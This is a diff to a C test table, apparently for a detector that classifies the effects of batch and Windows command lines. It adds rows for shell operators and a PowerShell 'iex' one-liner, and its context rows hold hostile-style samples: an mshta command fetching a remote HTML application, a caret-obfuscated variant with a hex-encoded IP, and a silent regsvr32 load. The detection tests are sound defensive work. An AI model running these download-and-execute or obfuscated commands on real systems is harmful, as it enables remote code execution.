@@ -40,6 +40,8 @@ static const struct row {
     { "a comment does nothing", "batch", "rem calc 1\n::calc 2", EFFECT_RUN, "command", "", NONE },
     { "an endless loop ends", "batch", ":a\nset x=%x%y\ngoto a", EFFECT_RUN, "command", "", NONE },
     { "echo alone runs nothing", "batch", "@echo off\necho calc 1 ^& calc 2", EFFECT_RUN, "command", "", NONE },
+    { "no shell, no operators", "command", "calc a&b|c", EFFECT_RUN, "command", "", NONE },
+    { "no shell for powershell", "command", "powershell -c \"'Start-Sleep 7'|iex\"", EFFECT_DELAY, "value", "7", KNOWN },
     { "mshta", "command", "mshta http://192.0.2.1/a.html", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a.html", KNOWN },
     { "carets in a url", "command", "cmd /c m^sh^t^a h^tt^p^:/^/0xC0000201/a.html", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a.html", KNOWN },
     { "regsvr32", "command", "regsvr32 /s ..\\a.ocx", EFFECT_LOAD, "path", "..\\a.ocx", KNOWN },
